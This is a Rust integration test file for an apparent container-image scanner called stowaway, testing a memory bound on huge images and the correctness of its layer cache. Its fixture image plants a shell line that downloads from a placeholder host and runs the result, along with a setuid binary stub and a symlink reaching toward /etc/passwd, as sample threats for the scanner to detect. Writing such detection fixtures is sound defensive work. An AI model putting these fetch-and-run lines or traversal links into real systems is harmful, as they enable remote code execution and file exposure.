//! Scale: an image of millions of files stays within a stated memory bound
//! (issue 15, defect 13), and the compact layer cache behind fast warm
//! rescans gives exactly the cold result, a damaged entry being read as a
//! miss and rescanned (issue 16).

use std::path::Path;

use stowaway::fixture::{ImageBuilder, LayerBuilder, many_empty_files};

use crate::util::{bin, tmp};

/// Run the binary and return (exit code, stdout, stderr, peak RSS in KiB)
/// of that very child (`wait4`, not the test process's other children).
// The child is reaped by `wait4` below, which clippy cannot see.
#[allow(clippy::zombie_processes)]
fn run_measured(args: &[&str]) -> (Option<i32>, String, String, u64) {
    use std::io::Read;
    let mut child = bin()
        .args(args)
        .env("NO_COLOR", "1")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("run stowaway");
    let (mut so, mut se) = (child.stdout.take().unwrap(), child.stderr.take().unwrap());
    let err_reader = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = se.read_to_string(&mut s);
        s
    });
    let mut out = String::new();
    let _ = so.read_to_string(&mut out);
    let mut status = 0;
    // SAFETY: rusage is plain data; wait4 fills it for our own child.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    let pid = child.id() as libc::pid_t;
    let r = unsafe { libc::wait4(pid, &mut status, 0, &mut usage) };
    assert_eq!(r, pid, "wait4");
    let code = libc::WIFEXITED(status).then(|| libc::WEXITSTATUS(status));
    let err = err_reader.join().unwrap();
    (code, out, err, usage.ru_maxrss as u64)
}

#[test]
fn issue15_two_million_empty_files_stay_within_a_stated_memory_bound() {
    let t = tmp();
    let dir = t.path().join("img");
    many_empty_files(2_000_000, 1000)
        .write_oci_layout(&dir)
        .unwrap();
    let r = format!("oci:{}", dir.display());
    let db = t.path().join("s.db");
    // With the default limits the 2,002,000 entries exceed
    // --max-image-entries (1,000,000): refused, naming the flag, having
    // held at most a million entries (about 300 bytes each; the old
    // default of 8M let this image take 1.1 GiB).
    let (code, _, err, rss) = run_measured(&["scan", &r, "--db", db.to_str().unwrap()]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("--max-image-entries"), "{err}");
    // The bound catches a return of the old 1.1 GiB with room for the
    // debug build's noise (~380-400 MiB measured; it touched 402 MiB once
    // under load 14 after the command model's regex-set cache landed).
    assert!(rss < 480 * 1024, "refusing took {} MiB", rss / 1024);
    // (Raised past the limit, the same image scans in ~680 MiB with a
    // release build: benches/bench.sh many; README "Performance".)
}

fn rich_image() -> stowaway::fixture::BuiltImage {
    ImageBuilder::new()
        .layer(
            LayerBuilder::new()
                .dir("usr/bin", 0o755)
                .file(
                    "usr/bin/fetch",
                    b"#!/bin/sh\ncurl -fsSL http://x.invalid/a -o /tmp/a && sh /tmp/a\n",
                    0o755,
                )
                .file(
                    "var/lib/dpkg/status",
                    b"Package: a\nStatus: install ok installed\nVersion: 1\n",
                    0o644,
                )
                .file_bytes(b"usr/bin/odd\xff", b"\x7fELF\x02\x01\x01", 0o4755, 0, 0)
                .hardlink("usr/bin/fetch2", "usr/bin/fetch")
                .symlink("usr/bin/up", "../../../etc/passwd")
                .device("dev/mem", 'c', 1, 1)
                .fifo("run/pipe")
                .file("etc/old", b"old", 0o644)
                .file("opt/x/y", b"y", 0o644),
        )
        .layer(
            LayerBuilder::new()
                .whiteout("etc/old")
                .opaque("opt/x")
                .file(
                    "usr/bin/fetch",
                    b"#!/bin/sh\nwget http://y.invalid/b\n",
                    0o755,
                ),
        )
        .config("Entrypoint", serde_json::json!(["/usr/bin/fetch"]))
        .build()
}

fn outputs(r: &str, db: &Path, extra: &[&str]) -> (String, String) {
    let db = db.to_str().unwrap();
    let run = |cmd: &str| {
        let mut args = vec![cmd, r, "--db", db, "--format", "json"];
        args.extend(extra);
        let (code, out, err, _) = run_measured(&args);
        assert!(matches!(code, Some(0 | 1)), "{cmd}: {err}");
        // The scan's start time differs from run to run; nothing else may.
        let mut v: serde_json::Value = serde_json::from_str(&out).unwrap();
        if let Some(m) = v.as_object_mut() {
            m.remove("scanned_at");
        }
        serde_json::to_string_pretty(&v).unwrap()
    };
    (run("scan"), run("inventory"))
}

fn cache_rows(db: &Path) -> Vec<(String, Vec<u8>)> {
    let c = rusqlite::Connection::open(db).unwrap();
    // No table yet: nothing was ever cached in this store.
    let Ok(mut s) =
        c.prepare("SELECT key, data FROM layer_cache WHERE key LIKE 'layer/%' ORDER BY key")
    else {
        return Vec::new();
    };
    s.query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .map(|r| r.unwrap())
        .collect()
}

#[test]
fn issue16_warm_rescan_gives_the_cold_result_and_a_damaged_entry_is_rescanned() {
    let t = tmp();
    let dir = t.path().join("img");
    rich_image().write_oci_layout(&dir).unwrap();
    let r = format!("oci:{}", dir.display());
    let db = t.path().join("s.db");
    let cold = outputs(&r, &db, &["--no-cache"]);
    assert!(cache_rows(&db).is_empty(), "--no-cache fills nothing");
    assert!(
        cold.0.contains("transfer-tool") || cold.0.contains("download"),
        "{}",
        cold.0
    );
    let first = outputs(&r, &db, &[]);
    let rows = cache_rows(&db);
    assert_eq!(rows.len(), 2, "one cache entry per layer");
    let warm = outputs(&r, &db, &[]);
    assert_eq!(first, cold);
    assert_eq!(warm, cold, "the warm rescan gives the cold result");
    // Damage each entry in turn (cut in half, one byte flipped, emptied):
    // the rescan gives the cold result and rewrites the entry whole.
    let c = rusqlite::Connection::open(&db).unwrap();
    for (key, data) in &rows {
        let mut flipped = data.clone();
        flipped[data.len() / 2] ^= 0x55;
        for bad in [data[..data.len() / 2].to_vec(), flipped, Vec::new()] {
            c.execute(
                "UPDATE layer_cache SET data = ?1 WHERE key = ?2",
                rusqlite::params![bad, key],
            )
            .unwrap();
            assert_eq!(outputs(&r, &db, &[]), cold, "{key}");
            assert_eq!(cache_rows(&db), rows, "{key} rewritten");
        }
    }
}
